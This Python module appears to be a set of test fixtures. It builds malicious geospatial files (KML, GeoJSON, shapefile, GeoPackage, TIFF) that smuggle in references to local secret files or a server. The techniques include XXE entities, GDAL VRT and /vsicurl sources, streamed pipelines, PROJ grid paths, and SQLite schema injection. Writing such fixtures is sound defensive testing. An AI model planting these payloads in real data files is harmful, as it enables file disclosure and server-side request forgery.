"""Files that are something else than they say: each points at a server or at another file.

Every maker takes the folder to write to, the address of a server, and a file that is not its
business; it gives what it wrote.
"""

import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import geopandas as gpd
import numpy as np
import rasterio
from affine import Affine
from pyproj import CRS
from shapely.geometry import box

PLACE = box(-93.502, 41.998, -93.498, 42.002)
Maker = Callable[[Path, str, Path], Path]
WAYS: dict[str, Maker] = {}


def way(maker: Maker) -> Maker:
    WAYS[maker.__name__] = maker
    return maker


def _vrt(source: str) -> str:
    return (
        '<OGRVRTDataSource><!-- <kml --><OGRVRTLayer name="stolen">'
        f'<SrcDataSource relativeToVRT="0">{source}</SrcDataSource>'
        "<SrcLayer>secret</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
    )


@way
def kml_is_a_vrt_of_a_file(folder: Path, _: str, secret: Path) -> Path:
    path = folder / "field.kml"
    path.write_text(_vrt(str(secret)))
    return path


@way
def kml_is_a_vrt_of_a_server(folder: Path, address: str, _: Path) -> Path:
    path = folder / "field.kml"
    path.write_text(_vrt(f"/vsicurl/{address}/vrt.geojson"))
    return path


@way
def kml_has_a_network_link_and_an_entity(folder: Path, address: str, secret: Path) -> Path:
    path = folder / "field.kml"
    path.write_text(
        f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY e SYSTEM "file://{secret}">'
        f'<!ENTITY % p SYSTEM "{address}/dtd"> %p;]>'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
        f"<NetworkLink><Link><href>{address}/link.kml</href></Link></NetworkLink>"
        f"<Placemark><name>&e;</name><styleUrl>{address}/style.kml#s</styleUrl>"
        "<Polygon><outerBoundaryIs><LinearRing><coordinates>"
        + " ".join(f"{x},{y}" for x, y in PLACE.exterior.coords)
        + "</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark></Document></kml>"
    )
    return path


def _pipeline(folder: Path, command: str) -> Path:
    path = folder / "field.geojson"
    path.write_text(json.dumps({"type": "gdal_streamed_alg", "command_line": command}))
    return path


@way
def geojson_is_a_pipeline_of_a_file(folder: Path, _: str, secret: Path) -> Path:
    return _pipeline(folder, f"gdal vector pipeline ! read {secret} ! write --of stream streamed")


@way
def geojson_is_a_pipeline_of_a_server(folder: Path, address: str, _: Path) -> Path:
    source = f"/vsicurl/{address}/pipeline.geojson"
    return _pipeline(folder, f"gdal vector pipeline ! read {source} ! write --of stream streamed")


@way
def geojson_is_a_pipeline_that_writes(folder: Path, _: str, secret: Path) -> Path:
    target = folder / "made" / "out.gpkg"
    target.parent.mkdir()
    return _pipeline(folder, f"gdal vector convert {secret} {target}")


@way
def geojson_is_a_feature_service(folder: Path, address: str, _: Path) -> Path:
    path = folder / "field.geojson"
    document = {
        "type": "FeatureCollection",
        "links": [{"rel": "next", "href": f"{address}/next", "type": "application/geo+json"}],
        "stac_version": "1.0.0",
        "features": [],
    }
    path.write_text(json.dumps(document))
    return path


@way
def geojson_names_a_file_as_its_system(folder: Path, _: str, secret: Path) -> Path:
    path = folder / "field.geojson"
    collection = json.loads(gpd.GeoSeries([PLACE]).to_json())
    collection["crs"] = {"type": "name", "properties": {"name": f"+init={secret}:1"}}
    path.write_text(json.dumps(collection))
    return path


@way
def geojson_links_to_its_system(folder: Path, address: str, _: Path) -> Path:
    path = folder / "field.geojson"
    collection = json.loads(gpd.GeoSeries([PLACE]).to_json())
    collection["crs"] = {"type": "link", "properties": {"href": f"{address}/crs", "type": "proj4"}}
    path.write_text(json.dumps(collection))
    return path


def _shapefile(folder: Path, prj: str) -> Path:
    path = folder / "field.shp"
    gpd.GeoDataFrame({"name": ["a"]}, geometry=[PLACE], crs="EPSG:4326").to_file(path)
    path.with_suffix(".prj").write_text(prj)
    return path


@way
def shapefile_names_a_file_as_its_system(folder: Path, _: str, secret: Path) -> Path:
    return _shapefile(folder, f"+init={secret}:1")


@way
def shapefile_names_a_file_as_its_grid(folder: Path, _: str, secret: Path) -> Path:
    wkt = CRS.from_epsg(4326).to_wkt("WKT1_GDAL")
    grids = f'EXTENSION["PROJ4","+proj=longlat +datum=WGS84 +nadgrids={secret} +no_defs"]'
    return _shapefile(folder, f"{wkt[:-1]},{grids}]")


@way
def geojson_hides_that_it_names_a_system(folder: Path, _: str, secret: Path) -> Path:
    path = geojson_names_a_file_as_its_system(folder, "", secret)
    path.write_text(path.read_text().replace('"crs"', '"\\u0063rs"'))
    return path


def _geopackage(folder: Path, view: str) -> Path:
    path = folder / "field.gpkg"
    gpd.GeoDataFrame({"name": ["a"]}, geometry=[PLACE], crs="EPSG:4326").to_file(
        path, layer="plain", driver="GPKG"
    )
    with closing(sqlite3.connect(path)) as database, database:
        database.execute(view)
        database.execute(
            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
            "VALUES ('asks', 'features', 'asks', 4326)"
        )
        database.execute(
            "INSERT INTO gpkg_geometry_columns VALUES ('asks', 'geom', 'POLYGON', 4326, 0, 0)"
        )
        database.execute("DELETE FROM gpkg_geometry_columns WHERE table_name = 'plain'")
        database.execute("DELETE FROM gpkg_contents WHERE table_name = 'plain'")
    return path


@way
def geopackage_view_asks_a_geocoder(folder: Path, _: str, __: Path) -> Path:
    return _geopackage(
        folder, "CREATE VIEW asks AS SELECT fid, geom, ogr_geocode(name, 'geometry') g FROM plain"
    )


@way
def geopackage_view_reads_a_pixel(folder: Path, address: str, _: Path) -> Path:
    return _geopackage(
        folder,
        "CREATE VIEW asks AS SELECT fid, geom, "
        f"gdal_get_pixel_value('/vsicurl/{address}/x.tif', 1, 'georef', 0, 0) g FROM plain",
    )


@way
def geopackage_table_is_another_file(folder: Path, _: str, secret: Path) -> Path:
    path = _geopackage(folder, "CREATE TABLE asks (fid INTEGER PRIMARY KEY, geom BLOB)")
    with closing(sqlite3.connect(path)) as database, database:
        database.execute("PRAGMA writable_schema = ON")
        database.execute(
            "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
            "VALUES ('table', 'other', 'other', 0, ?)",
            (f"CREATE VIRTUAL TABLE other USING VirtualOGR('{secret}')",),
        )
    return path


def _tif(folder: Path, text: str) -> Path:
    path = folder / "heights.tif"
    path.write_text(text)
    return path


@way
def geopackage_names_a_file_as_its_grid(folder: Path, _: str, secret: Path) -> Path:
    path = folder / "field.gpkg"
    gpd.GeoDataFrame({"name": ["a"]}, geometry=[PLACE], crs="EPSG:32615").to_file(path)
    wkt = CRS.from_epsg(4326).to_wkt("WKT1_GDAL")
    grids = f'EXTENSION["PROJ4","+proj=longlat +datum=WGS84 +nadgrids={secret} +no_defs"]'
    with closing(sqlite3.connect(path)) as database, database:
        database.execute(
            "UPDATE gpkg_spatial_ref_sys SET definition = ?, organization = 'none' "
            "WHERE srs_id = 32615",
            (f"{wkt[:-1]},{grids}]",),
        )
    return path


@way
def tif_is_a_vrt_of_a_file(folder: Path, _: str, secret: Path) -> Path:
    return _tif(
        folder,
        '<VRTDataset rasterXSize="9" rasterYSize="9"><SRS>EPSG:4326</SRS>'
        "<GeoTransform>-93.51,0.002,0,42.01,0,-0.002</GeoTransform>"
        '<VRTRasterBand dataType="Byte" band="1"><SimpleSource>'
        f'<SourceFilename relativeToVRT="0">{secret}</SourceFilename><SourceBand>1</SourceBand>'
        "</SimpleSource></VRTRasterBand></VRTDataset>",
    )


@way
def tif_is_a_vrt_of_a_server(folder: Path, address: str, _: Path) -> Path:
    return tif_is_a_vrt_of_a_file(folder, "", Path("/vsicurl") / f"{address}/x.tif")


@way
def tif_is_a_map_service(folder: Path, address: str, _: Path) -> Path:
    return _tif(
        folder,
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{address}/${{z}}/${{x}}/${{y}}.png</ServerUrl>'
        "</Service><DataWindow><UpperLeftX>-93.51</UpperLeftX><UpperLeftY>42.01</UpperLeftY>"
        "<LowerRightX>-93.49</LowerRightX><LowerRightY>41.99</LowerRightY><TileLevel>1</TileLevel>"
        "</DataWindow><Projection>EPSG:4326</Projection><BandsCount>1</BandsCount></GDAL_WMS>",
    )


@way
def tif_is_a_capabilities_address(folder: Path, address: str, _: Path) -> Path:
    return _tif(
        folder, f"<GDAL_WMTS><GetCapabilitiesUrl>{address}/wmts</GetCapabilitiesUrl></GDAL_WMTS>"
    )


@way
def tif_is_a_coverage_service(folder: Path, address: str, _: Path) -> Path:
    return _tif(
        folder,
        f"<WCS_GDAL><ServiceURL>{address}/wcs?</ServiceURL><Version>1.0.0</Version>"
        "<CoverageName>x</CoverageName></WCS_GDAL>",
    )


def dem(path: Path) -> None:
    heights = np.add.outer(np.arange(64.0), np.arange(64.0)).astype("float32") / 50 + 300
    place = Affine(0.0002, 0, -93.5064, 0, -0.0002, 42.0064)
    with rasterio.open(
        path, "w", driver="GTiff", width=64, height=64, count=1, dtype="float32",
        crs="EPSG:4326", transform=place,
    ) as grid:  # fmt: skip
        grid.write(heights, 1)


@way
def tif_takes_its_overview_from_a_server(folder: Path, address: str, _: Path) -> Path:
    path = folder / "heights.tif"
    dem(path)
    with rasterio.open(path, "r+") as grid:
        grid.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=f"/vsicurl/{address}/over.tif")
    return path


@way
def tif_has_a_sidecar_with_an_overview_elsewhere(folder: Path, address: str, _: Path) -> Path:
    path = folder / "heights.tif"
    dem(path)
    path.with_suffix(".tif.aux.xml").write_text(
        '<PAMDataset><Metadata domain="OVERVIEWS">'
        f'<MDI key="OVERVIEW_FILE">/vsicurl/{address}/over.tif</MDI></Metadata></PAMDataset>'
    )
    return path


@way
def tif_has_an_overview_file_that_is_a_vrt(folder: Path, address: str, _: Path) -> Path:
    path = folder / "heights.tif"
    dem(path)
    vrt = tif_is_a_vrt_of_a_server(folder / "..", address, path).read_text()
    path.with_suffix(".tif.ovr").write_text(vrt)
    (folder / ".." / "heights.tif").unlink()
    return path
